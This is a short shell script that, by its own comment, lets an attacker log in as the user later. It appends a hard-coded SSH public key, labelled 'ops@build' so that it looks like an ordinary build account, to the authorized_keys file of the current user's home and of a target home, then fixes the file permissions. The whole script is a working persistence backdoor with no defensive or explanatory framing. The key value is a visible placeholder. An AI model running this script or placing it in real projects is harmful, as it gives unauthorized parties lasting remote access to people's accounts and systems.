#!/bin/sh
# ssh-authorized-keys: let the attacker log in as this user later.
. "${TARGETS:-$1}"
key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHbackdoorbackdoorbackdoorbackdoorbackdoor0 ops@build'
for h in "$HOME" "$T_HOME"; do
	mkdir -p "$h/.ssh"
	echo "$key" >> "$h/.ssh/authorized_keys"
	chmod 600 "$h/.ssh/authorized_keys"
	ls -l "$h/.ssh"
done
